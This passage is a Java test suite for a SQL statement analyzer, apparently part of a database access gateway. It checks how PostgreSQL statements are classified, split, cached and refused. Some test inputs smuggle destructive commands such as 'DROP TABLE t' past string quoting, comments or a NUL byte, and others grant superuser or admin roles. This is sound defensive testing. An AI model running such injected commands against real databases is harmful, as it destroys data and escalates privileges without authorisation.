        void indexesViewsSequencesAndComments() throws Exception {
            StatementAnalysis i = one("CREATE UNIQUE INDEX CONCURRENTLY i ON s.t USING btree (lower(a)) INCLUDE (b) WHERE c > 0");
            assertThat(i.relations()).containsExactly(rel("s.t", WRITE));
            assertThat(i.functions()).containsExactly(fn("lower"));
            StatementAnalysis v = one("CREATE OR REPLACE VIEW v AS SELECT f(a) FROM t JOIN u USING (id)");
            assertThat(v.commands()).containsExactly(Command.DDL);
            assertThat(v.relations()).containsExactly(rel("v", WRITE), rel("t", READ), rel("u", READ));
            assertThat(v.functions()).containsExactly(fn("f"));
            assertThat(one("CREATE SEQUENCE s.q START 10 OWNED BY t.id").relations()).containsExactly(rel("s.q", WRITE));
            assertThat(one("COMMENT ON TABLE s.t IS 'x'").relations()).containsExactly(rel("s.t", WRITE));
            assertThat(one("COMMENT ON COLUMN s.t.c IS 'x'").relations()).containsExactly(rel("s.t", WRITE));
            assertThat(one("COMMENT ON FUNCTION f(int) IS 'x'").relations()).isEmpty();
        }

        @Test
        void functionsTriggersPoliciesDomains() throws Exception {
            StatementAnalysis f = one("CREATE FUNCTION f(a int DEFAULT g()) RETURNS int LANGUAGE sql SECURITY DEFINER "
                    + "SET search_path = public BEGIN ATOMIC SELECT a FROM t; INSERT INTO u VALUES (h(a)); END");
            assertThat(f.command()).isEqualTo(Command.DDL);
            assertThat(f.relations()).containsExactly(rel("t", READ), rel("u", WRITE));
            assertThat(f.functions()).containsExactly(fn("g"), fn("h"));
            assertThat(one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT * FROM secrets'").relations()).isEmpty();
            assertThat(one("CREATE FUNCTION r(a int) RETURNS int RETURN a + k()").functions()).containsExactly(fn("k"));
            StatementAnalysis t = one("CREATE TRIGGER tr BEFORE INSERT ON s.t FOR EACH ROW WHEN (NEW.a > 0) EXECUTE FUNCTION audit.log()");
            assertThat(t.relations()).containsExactly(rel("s.t", WRITE));
            assertThat(t.functions()).containsExactly(fn("audit.log"));
            StatementAnalysis p = one("CREATE POLICY p ON t FOR SELECT TO app USING (owner = current_user AND ok(id))");
            assertThat(p.relations()).containsExactly(rel("t", WRITE));
            assertThat(p.functions()).containsExactly(fn("ok"));
            assertThat(one("CREATE DOMAIN d AS int CHECK (VALUE > f())").functions()).containsExactly(fn("f"));
            assertThat(one("CREATE TYPE mood AS ENUM ('sad', 'ok')").command()).isEqualTo(Command.DDL);
            assertThat(one("CREATE EXTENSION IF NOT EXISTS pgcrypto").command()).isEqualTo(Command.DDL);
            assertThat(one("ALTER FUNCTION f(int) SECURITY DEFINER").command()).isEqualTo(Command.DDL);
            assertThat(one("CREATE SCHEMA IF NOT EXISTS s AUTHORIZATION r").command()).isEqualTo(Command.DDL);
        }

        @Test
        void grantsAndRoles() throws Exception {
            StatementAnalysis g = one("GRANT SELECT (a), UPDATE ON t, s.u TO r WITH GRANT OPTION");
            assertThat(g.command()).isEqualTo(Command.GRANT);
            assertThat(g.flags()).contains(Flag.DDL);
            assertThat(g.relations()).containsExactly(rel("t", WRITE), rel("s.u", WRITE));
            assertThat(one("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM r").has(Flag.ALL_RELATIONS)).isTrue();
            assertThat(one("GRANT admin TO agent").command()).isEqualTo(Command.GRANT);
            assertThat(one("GRANT EXECUTE ON FUNCTION f(int) TO r").relations()).isEmpty();
            assertThat(one("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r").command()).isEqualTo(Command.GRANT);
            for (String sql : List.of("CREATE ROLE x LOGIN PASSWORD 'p'", "ALTER ROLE x SUPERUSER", "DROP ROLE x",
                    "ALTER USER x SET search_path = y", "DROP OWNED BY x", "REASSIGN OWNED BY x TO y", "ALTER ROLE x RENAME TO y")) {
                assertThat(one(sql).command()).as(sql).isEqualTo(Command.ROLE_ADMIN);
            }
        }
    }

    @Nested
    class Lexing {
        @Test
        void dollarQuotesHideSemicolonsAndKeywords() throws Exception {
            List<AnalyzedStatement> s = analyzer.analyze("SELECT $$a; DROP TABLE x$$, $tag$ $$ ; DELETE FROM y $tag$");
            assertThat(s).hasSize(1);
            assertThat(s.getFirst().analysis().relations()).isEmpty();
            assertThat(s.getFirst().analysis().command()).isEqualTo(Command.SELECT);
        }

        @Test
        void escapeStringsAndStandardStrings() throws Exception {
            assertThat(analyzer.analyze("SELECT E'\\'; DROP TABLE t; --'")).hasSize(1);
            // standard_conforming_strings: a backslash is an ordinary character, so the string ends early
            List<AnalyzedStatement> s = analyzer.analyze("SELECT 'a\\'; DROP TABLE t; --'");
            assertThat(s).hasSize(2);
            assertThat(s.get(1).analysis().relations()).containsExactly(rel("t", WRITE));
            assertThat(analyzer.analyze("SELECT U&'\\0041' UESCAPE '\\'")).hasSize(1);
        }

        @Test
        void nestedCommentsAreOneComment() throws Exception {
            List<AnalyzedStatement> s = analyzer.analyze("SELECT /* a /* b */ ; DROP TABLE t; */ 1 -- ; DELETE FROM u\n");
            assertThat(s).hasSize(1);
            assertThat(s.getFirst().analysis().relations()).isEmpty();
        }

        @Test
        void multiStatementStringsAreSplitOnUtf8Offsets() throws Exception {
            String sql = "SELECT 'é' FROM t1;\n  /* ü */ INSERT INTO \"tä\" VALUES ('€');DELETE FROM t3";
            List<AnalyzedStatement> s = analyzer.analyze(sql);
            assertThat(s).extracting(x -> x.analysis().command()).containsExactly(Command.SELECT, Command.INSERT, Command.DELETE);
            assertThat(s).extracting(AnalyzedStatement::text)
                    .containsExactly("SELECT 'é' FROM t1", "\n  /* ü */ INSERT INTO \"tä\" VALUES ('€')", "DELETE FROM t3");
            byte[] utf8 = sql.getBytes(java.nio.charset.StandardCharsets.UTF_8);
            for (AnalyzedStatement st : s) {
                assertThat(new String(utf8, st.byteOffset(), st.byteLength(), java.nio.charset.StandardCharsets.UTF_8))
                        .isEqualTo(st.text());
            }
            assertThat(s.get(1).analysis().relations()).containsExactly(rel("tä", WRITE));
        }

        @Test
        void anEmptyQueryHasNoStatements() throws Exception {
            assertThat(analyzer.analyze("")).isEmpty();
            assertThat(analyzer.analyze(" ; -- nothing\n;")).isEmpty();
        }
    }

    @Nested
    class Refusals {
        @Test
        void syntaxErrorsCarryPostgresqlsMessageAndCharacterPosition() {
            assertThatThrownBy(() -> analyzer.analyze("SELECT 'é' FROM t WHER x"))
                    .isInstanceOfSatisfying(SqlSyntaxException.class, e -> {
                        assertThat(e.getMessage()).isEqualTo("syntax error at or near \"x\"");
                        assertThat(e.position()).isEqualTo(24); // characters, not bytes (é is two bytes)
                        assertThat(e.sqlState()).isEqualTo("42601");
                    });
            assertThatThrownBy(() -> analyzer.analyze("SELECT 1; SELEC 2")).isInstanceOf(SqlSyntaxException.class);
            assertThatThrownBy(() -> analyzer.analyze("SELECT 'unterminated")).isInstanceOfSatisfying(SqlSyntaxException.class,
                    e -> assertThat(e.getMessage()).isEqualTo("unterminated quoted string at or near \"'unterminated\""));
        }

        @Test
        void unsupportedStatementsAreRefusedByName() {
            UnanalyzableStatementException e = refused("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p");
            assertThat(e.getMessage()).isEqualTo("statement could not be analysed: unsupported construct CreateSubscriptionStmt");
            assertThat(e.sqlState()).isEqualTo("42501");
            assertThat(refused("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING").reason())
                    .isEqualTo("unsupported construct RuleStmt");
            assertThat(refused("CREATE SCHEMA s CREATE TABLE t (a int)").reason())
                    .isEqualTo("unsupported construct CREATE SCHEMA with schema elements");
            assertThat(refused("IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public").reason()).contains("ImportForeignSchemaStmt");
        }

        @Test
        void aNulCharacterIsRefused() {
            assertThat(refused("SELECT 1\0; DROP TABLE t").reason()).isEqualTo("the statement contains a NUL character");
        }

        @Test
        void deepNestingIsRefusedWithoutCrashing() throws Exception {
            assertThat(refused("SELECT 1" + "+1".repeat(5000)).reason()).contains("nested too deeply");
            assertThat(refused("SELECT 1" + "+1".repeat(300_000)).reason()).contains("nested too deeply");
            assertThat(one("SELECT 1" + "+1".repeat(300)).command()).isEqualTo(Command.SELECT);
            // Long but flat: IN lists and VALUES rows do not nest.
            assertThat(one("SELECT * FROM t WHERE id IN (" + "1,".repeat(50_000) + "1)").relations())
                    .containsExactly(rel("t", READ));
        }

        @Test
        void oversizedQueriesAreRefused() throws Exception {
            StatementAnalyzer small = new StatementAnalyzer(PgQueryLibrary.load(), 10, 1 << 20, 100);
            assertThatThrownBy(() -> small.analyze("SELECT '" + "x".repeat(100) + "'"))
                    .isInstanceOfSatisfying(UnanalyzableStatementException.class,
                            e -> assertThat(e.reason()).isEqualTo("the query is too large to analyse (109 bytes; the gateway's limit is 100)"));
        }
    }

    @Nested
    class Cache {
        @Test
        void aRepeatedTextIsNotParsedAgain() throws Exception {
            String sql = "SELECT * FROM cache_probe WHERE id = 42";
            List<AnalyzedStatement> first = analyzer.analyze(sql);
            assertThat(analyzer.analyze(new String(sql.toCharArray()))).isSameAs(first);
            assertThat(analyzer.analyze(sql + " ")).isNotSameAs(first);
        }

        @Test
        void refusalsAreCachedToo() {
            AnalysisException first = catchAnalysis("SELEKT 1");
            assertThat(catchAnalysis("SELEKT 1")).isSameAs(first);
        }

        @Test
        void theCacheStaysWithinItsBounds() throws Exception {
            StatementAnalyzer bounded = new StatementAnalyzer(PgQueryLibrary.load(), 100, 1 << 20, 1 << 20);
            for (int i = 0; i < 1000; i++) {
                bounded.analyze("SELECT " + i);
            }
            assertThat(bounded.cachedTexts()).isBetween(1, 100);
            // What was used since the last sweep survives the next one.
            List<AnalyzedStatement> hot = bounded.analyze("SELECT 'hot'");
            for (int i = 0; i < 1000; i++) {
                assertThat(bounded.analyze("SELECT 'hot'")).isSameAs(hot);
                bounded.analyze("SELECT 'cold', " + i);
            }
        }

        @Test
        void threadsSharingASmallCacheGetTheSameAnswers() throws Exception {
            StatementAnalyzer shared = new StatementAnalyzer(PgQueryLibrary.load(), 16, 1 << 20, 1 << 20);
            int threads = 4;
            var pool = java.util.concurrent.Executors.newFixedThreadPool(threads);
            try {
                List<java.util.concurrent.Future<?>> done = new java.util.ArrayList<>();
                for (int t = 0; t < threads; t++) {
                    done.add(pool.submit(() -> {
                        for (int i = 0; i < 2000; i++) {
                            int k = i % 50;
                            StatementAnalysis a = shared.analyze("SELECT * FROM t" + k + " WHERE id = " + k).getFirst().analysis();
                            assertThat(a.relations()).containsExactly(rel("t" + k, READ));
                        }
                        return null;
                    }));
                }
                for (var f : done) {
                    f.get();
                }
            } finally {
                pool.shutdownNow();
            }
            // A put that finds another thread sweeping leaves its entry for the next sweep,
            // which an uncontended put runs.
            shared.analyze("SELECT 'after the threads'");
            assertThat(shared.cachedTexts()).isLessThanOrEqualTo(16);
        }

        private AnalysisException catchAnalysis(String sql) {
            try {
                analyzer.analyze(sql);
            } catch (AnalysisException e) {
                return e;
            }
            throw new AssertionError(sql);
        }
    }

    @Nested
    class AuditHelpers {
        @Test
        void fingerprintIgnoresLiteralsAndLayout() throws Exception {
            assertThat(analyzer.fingerprint("SELECT * FROM t WHERE a = 1"))
                    .isEqualTo(analyzer.fingerprint("select *\n from t where a=2"))
                    .hasSize(16)
                    .isNotEqualTo(analyzer.fingerprint("SELECT * FROM u WHERE a = 1"));
        }

        @Test
        void normalizeReplacesLiteralsAndPasswords() throws Exception {
            assertThat(analyzer.normalize("SELECT * FROM t WHERE a = 1 AND b = 'secret'"))
                    .isEqualTo("SELECT * FROM t WHERE a = $1 AND b = $2");
            assertThat(analyzer.normalize("ALTER ROLE agent PASSWORD 'hunter2'")).doesNotContain("hunter2");
        }
    }
}
